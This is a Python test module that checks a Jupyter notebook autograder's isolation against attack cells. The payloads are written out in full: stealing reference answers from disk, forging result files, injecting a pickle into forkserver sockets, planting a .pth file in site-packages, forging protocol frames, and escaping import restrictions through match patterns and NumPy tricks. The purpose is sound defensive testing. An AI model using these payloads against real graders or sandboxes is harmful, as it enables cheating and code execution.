"""The attacks of `make exercises-prove` (`tools/exercise_proof.py`, issue 36): notebooks that
try to win points they did not earn, or to harm the grader or the next submission, the way
the security review did, each graded by the engine with the source rules switched off, so
that what stops them is the isolation and the limits (`attnbook_grader.jail`, `child`), not
the reading of the source.

Each attack is a cell added at the end of a notebook; its expectation:

* "answers from disk", "forged results and a crash", "forkserver daemon", "grader code and
  a .pth", "forged wire frame": added to the untouched notebook, it scores 0 (what the
  untouched notebook scores), and leaves no trace: no file in the proof's folder (where a
  results file or a marker would land), the installed grading code (the public checks and
  the engine) and site-packages unchanged;
* "endless loop": the reference answers with the first question's function replaced by a
  loop: that question scores 0, every other keeps its points;
* after all of them, the reference solution again scores 100 % (nothing harmed the
  reference process).

The rule attacks (`RULE_ATTACKS`, issue 44) answer questions with the routine the question
rules out, reached the five ways the security review found (a module name lent by the setup
cell, a string run by `numpy.testing.measure`, attributes read by a ``match`` pattern, the
builtins module through an attribute path of matplotlib, the module kept as an item of a
NumPy dict): PyTorch in exercise 1's NumPy question, the package's `attnbook.kvquant` in
exercise 9, `attnbook.induction` in exercise 10; and PyTorch's fused attention in exercise
8's question 2, where PyTorch itself is allowed, through those five ways and three more
bindings of it (`ROUTINE_CELLS`). Graded with the source rules off, each must score no more
than the untouched notebook on the questions it answers: the answer's process
(`attnbook_grader.reach`, `attnbook_grader.disarm`) holds none of that code.
"""

from __future__ import annotations

import hashlib
import shutil
import sysconfig
import time
from pathlib import Path
from typing import Any

import attnbook
import attnbook_grader
import nbformat

__all__ = [
    "ATTACKS",
    "LOOP",
    "ATTACKED",
    "fingerprint",
    "traces",
    "attack_cell",
    "attacks",
    "check_attacks",
]

# the exercises attacked: the security review's two get every attack of `ATTACKS`, and
# these and exercises 8 and 10 the rule attacks of `RULE_ATTACKS`
ATTACKED = ("ex01_attention", "ex08_gqa", "ex09_kv_quant", "ex10_induction")
_GENERIC = ("ex01_attention", "ex09_kv_quant")

# the five ways to a module the question rules out: (cells before, an expression giving the
# module named MOD); none needs the source rules to be fooled, they are switched off
SPELLINGS = {
    "a name the setup cell lent (sys, importlib)": (
        "",
        "sys.modules['importlib'].import_module(MOD)",
    ),
    "a string run by numpy.testing.measure": (
        "import numpy as _np\n"
        "_np.testing.measure('import importlib as _il\\n_M0 = _il.import_module(' "
        "+ repr(MOD) + ')', 1)\n",
        "_M0",
    ),
    "attributes read by a match pattern": (
        "match print:\n    case object(__self__=_b):\n        pass\n"
        "match _b:\n    case object(__import__=_imp):\n        pass\n",
        "_imp(MOD, fromlist=['_'])",
    ),
    "builtins through an attribute path (enum.bltns)": (
        "import matplotlib.backend_tools as _bt\n",
        "_bt.enum.bltns.__import__(MOD, fromlist=['_'])",
    ),
    "an item of a NumPy dict": (
        "import numpy as _np, importlib as _il\n"
        "_np.sctypeDict['_smuggled'] = _il.import_module(MOD)\n",
        "_np.sctypeDict['_smuggled']",
    ),
}
# exercise -> (the module ruled out, the questions answered, their functions through _M)
RULED = {
    "ex01_attention": (
        "torch",
        ["q1"],
        "def scores_to_weights(scores):\n    _M = GET\n    import numpy as _n\n"
        "    t = _M.from_numpy(_n.asarray(scores, dtype=_n.float64))\n"
        "    return _M.softmax(t, dim=-1).numpy()\n",
    ),
    "ex09_kv_quant": (
        "attnbook.kvquant",
        ["q2"],
        "def pack_codes(codes, bits):\n    _M = GET\n    return _M.pack_codes(codes, bits)\n"
        "def unpack_codes(packed, bits):\n    _M = GET\n"
        "    return _M.unpack_codes(packed, bits)\n",
    ),
    "ex10_induction": (
        "attnbook.induction",
        ["q1", "q2", "q3"],
        "def repeated_batch(batch_size, n, vocab_size, generator, bos):\n    _M = GET\n"
        "    return _M.repeated_tokens(batch_size, n, vocab_size, generator, bos)\n"
        "def induction_score(weights, n, bos):\n    _M = GET\n"
        "    return _M.induction_score(weights, n, bos)\n"
        "def previous_token_score(weights):\n    _M = GET\n"
        "    return _M.previous_token_score(weights)\n",
    ),
    # a routine of a library the answers keep: PyTorch's fused attention (`disarm`)
    "ex08_gqa": (
        "torch.nn.functional",
        ["q2"],
        "def gqa_attention(q, k, v, causal):\n    _M = GET\n"
        "    return _M.scaled_dot_product_attention(q, k, v, is_causal=causal, "
        "enable_gqa=True)\n",
    ),
}
# more ways to the same routine where the module itself is allowed: exercise -> spelling ->
# the cell (the routine through PyTorch's other bindings and its CPU kernel)
_EXPAND = "k, v = (x.repeat_interleave(q.shape[1] // x.shape[1], 1) for x in (k, v))"
ROUTINE_CELLS = {
    "ex08_gqa": {
        "torch.ops.aten": "def gqa_attention(q, k, v, causal):\n"
        "    return torch.ops.aten.scaled_dot_product_attention(q, k, v, "
        "is_causal=causal, enable_gqa=True)\n",
        "torch._C._nn": "def gqa_attention(q, k, v, causal):\n"
        "    return torch._C._nn.scaled_dot_product_attention(q, k, v, "
        "is_causal=causal, enable_gqa=True)\n",
        "the CPU kernel": "def gqa_attention(q, k, v, causal):\n"
        f"    {_EXPAND}\n"
        "    return torch.ops.aten._scaled_dot_product_flash_attention_for_cpu("
        "q, k, v, is_causal=causal)[0]\n",
    },
}


def rule_attack_cells(exercise: str) -> dict[str, str]:
    """Spelling -> the cell that answers `exercise`'s ruled questions through it."""
    module, _, body = RULED[exercise]
    return {
        spelling: (before + body.replace("GET", get)).replace("MOD", repr(module))
        for spelling, (before, get) in SPELLINGS.items()
    } | ROUTINE_CELLS.get(exercise, {})


# Where the attacker looks: the grader's own paths, which a submission can guess or read
# (OUT: the proof's folder for this exercise; ZIP: the autograder zip).
_FIND = """
import glob as _glob, json as _json, os as _os, zipfile as _zipfile
_ROOTS = [OUT, _os.path.dirname(ZIP), "/autograder", _os.environ.get("ATTNBOOK_MASTERS", "")]
_ROOTS.append(_os.path.dirname(_os.path.dirname(_os.path.dirname(ZIP))))
"""

ATTACKS = {
    "answers from disk": _FIND
    + """
def _cells(nb):
    return ["".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code"]
_found = []
for _root in _ROOTS:
    for _path in _glob.glob(_os.path.join(_root, "**", "*.ipynb"), recursive=True)[:50]:
        try:
            _found += _cells(_json.load(open(_path)))
        except Exception:
            pass
    for _path in _glob.glob(_os.path.join(_root, "**", "*.zip"), recursive=True)[:20]:
        try:
            _found += _cells(_json.loads(_zipfile.ZipFile(_path).read("reference.ipynb")))
        except Exception:
            pass
for _source in _found:
    if "grader" not in _source:
        try:
            exec(_source, globals())
        except Exception:
            pass
""",
    "forged results and a crash": _FIND
    + """
for _root in _ROOTS + [_os.getcwd(), "/tmp"]:
    for _name in ("results.json", "grades.csv", "MARKER"):
        try:
            with open(_os.path.join(_root, _name), "w") as _f:
                _f.write('{"score": 100.0, "tests": []}')
            _os.chmod(_os.path.join(_root, _name), 0o444)
        except OSError:
            pass
_os._exit(1)
""",
    "forkserver daemon": _FIND
    + """
import pickle as _pickle, socket as _socket
from multiprocessing import reduction as _reduction
class _Run:
    def __reduce__(self):
        return (exec, (f"open({OUT!r} + '/MARKER', 'w').write('forkserver')",))
for _address in _glob.glob("/tmp/pymp-*/listener-*"):
    try:
        _client = _socket.socket(_socket.AF_UNIX)
        _client.connect(_address)
        _r, _w = _os.pipe()
        _a, _b = _os.pipe()
        _reduction.sendfds(_client, [_r, _w, _a, _b])
        _os.write(_w, _pickle.dumps(_Run()))
    except Exception:
        pass
""",
    "grader code and a .pth": """
import os as _os, sysconfig as _sysconfig, attnbook as _attnbook, attnbook_grader as _engine
for _path in (
    _os.path.join(_os.path.dirname(_attnbook.__file__), "exercise_checks", "zz_attack.py"),
    _os.path.join(_os.path.dirname(_engine.__file__), "zz_attack.py"),
    _os.path.join(_sysconfig.get_paths()["purelib"], "zz_attack.pth"),
):
    try:
        with open(_path, "x") as _f:
            _f.write("import os\\n")
    except OSError:
        pass
""",
    "forged wire frame": """
import json as _json, os as _os, stat as _stat, struct as _struct
for _fd in range(3, 256):
    try:
        if _stat.S_ISSOCK(_os.fstat(_fd).st_mode):
            _body = _json.dumps({"ready": True, "cell_errors": [], "cell_events": [[10**6, "x"]]})
            _os.write(_fd, _struct.pack("!i", len(_body)) + _body.encode())
    except OSError:
        pass
""",
}

LOOP = """
def {name}(*args, **kwargs):
    while True:
        pass
"""


def fingerprint() -> dict[str, str]:
    """What the attacks may not change: the installed grading code (the public checks' and
    the engine's) and the .pth files of site-packages (name -> sha256)."""
    package = Path(attnbook.__file__).parent / "exercise_checks"
    engine = Path(attnbook_grader.__file__).parent
    site = Path(sysconfig.get_paths()["purelib"])
    files = [*package.glob("*.py"), *engine.glob("*.py"), *site.glob("*.pth")]
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(files)}


def traces(before: dict[str, str], folder: Path, since: float) -> list[str]:
    """What the attacks left: files in the proof's `folder` or, since `since`, in the
    machine's /tmp, grading code or .pth files added or changed (each removed again, so
    that a failed proof harms nothing)."""
    found = [
        f"{p.name} written in the proof's folder" for p in sorted(folder.iterdir())
    ]
    for name in ("results.json", "grades.csv", "MARKER"):
        planted = Path("/tmp") / name
        if planted.exists() and planted.stat().st_mtime >= since:
            found.append(f"{planted} written")
            planted.unlink()
    after = fingerprint()
    for path in sorted(set(after) - set(before)):
        found.append(f"{path} added")
        Path(path).unlink()
    found += [f"{p} changed" for p in sorted(before) if after.get(p) != before[p]]
    return found


def attack_cell(kind: str, out: Path, zip_path: Path) -> str:
    """The attack's cell, aimed at this proof's folder and zip."""
    code = ATTACKS[kind].replace("OUT", repr(str(out)))
    return code.replace("ZIP", repr(str(zip_path)))


def attacks(
    built: Any, grader: Any, work: Path, timeout: float, make_submission: Any
) -> dict:
    """The attacks, graded with the source rules off: kind -> {"score", "questions",
    "status", "traces"}, then the loop and the reference again. built, grader: the
    proof's (`tools.exercise_build.Built`, `tools.exercise_grading.Grader`)."""
    from attnbook_grader import child
    from attnbook_grader.engine import code_sources, grade_notebook

    found: dict[str, dict] = {}
    if built.name in RULED:
        found.update(_rule_attacks(built, grader, timeout, make_submission))
    if built.name not in _GENERIC:
        return found
    before, since = fingerprint(), time.time() - 1
    for kind in ATTACKS:
        out = work / "attack"
        out.mkdir(parents=True, exist_ok=True)
        nb = make_submission(built, None)
        nb.cells.append(
            nbformat.v4.new_code_cell(attack_cell(kind, out, built.autograder_zip))
        )
        result = grade_notebook(
            grader.exercise, code_sources(nb), grader.reference, timeout, False
        )
        found[kind] = {
            **{k: result[k] for k in ("score", "questions", "status", "maxima")},
            "traces": traces(before, out, since),
        }
        shutil.rmtree(out, ignore_errors=True)
    first = sorted(grader.exercise.functions.items())[0]
    nb = make_submission(built, [])
    nb.cells.append(nbformat.v4.new_code_cell(LOOP.format(name=sorted(first[1])[0])))
    limit, child.CALL_SECONDS = child.CALL_SECONDS, 3.0
    try:
        result = grade_notebook(
            grader.exercise, code_sources(nb), grader.reference, timeout
        )
    finally:
        child.CALL_SECONDS = limit
    found["endless loop"] = {
        **{k: result[k] for k in ("score", "questions", "status", "maxima")},
        "looping": first[0],
    }
    again = grader.grade(make_submission(built, []), "reference again", timeout)
    found["reference again"] = {"score": again.score, "possible": again.possible}
    return found


def _rule_attacks(
    built: Any, grader: Any, timeout: float, make_submission: Any
) -> dict[str, dict]:
    """The rule attacks and the untouched notebook they are held to, source rules off."""
    from attnbook_grader.engine import code_sources, grade_notebook

    def graded(extra: str | None) -> dict:
        nb = make_submission(built, None)
        if extra:
            nb.cells.append(nbformat.v4.new_code_cell(extra))
        result = grade_notebook(
            grader.exercise, code_sources(nb), grader.reference, timeout, False
        )
        return {k: result[k] for k in ("score", "questions", "status", "maxima")}

    ruled = RULED[built.name][1]
    baseline = graded(None)
    found = {}
    for spelling, cell in rule_attack_cells(built.name).items():
        seen = graded(cell)
        found[f"rule: {spelling}"] = {**seen, "ruled": ruled, "baseline": baseline}
    return found


def check_attacks(found: dict) -> list[str]:
    """Print each attack's outcome; the problems (empty: every attack held)."""
    problems = []
    for kind, seen in found.items():
        if kind == "reference again":
            ok = seen["score"] == seen["possible"] > 0
            expect = "100 % after the attacks"
        elif kind.startswith("rule: "):
            before = seen["baseline"]["questions"]
            ok = all(seen["questions"][q] <= before[q] for q in seen["ruled"])
            expect = (
                f"no more than the untouched notebook on {', '.join(seen['ruled'])}"
            )
        elif kind == "endless loop":
            looping = seen["looping"]
            ok = seen["status"] == "ok" and all(
                score == (0.0 if q == looping else seen["maxima"][q])
                for q, score in seen["questions"].items()
            )
            expect = f"0 on {looping} only"
        else:
            ok = seen["score"] == 0 and not seen["traces"]
            expect = "0 points and no trace"
        print(f"  attack: {kind:60s} {'OK' if ok else 'FAILED'}: {expect}")
        for trace in seen.get("traces", []):
            print(f"      left: {trace}")
        if not ok:
            problems.append(f"attack {kind!r}: expected {expect}, got {seen}")
    return problems
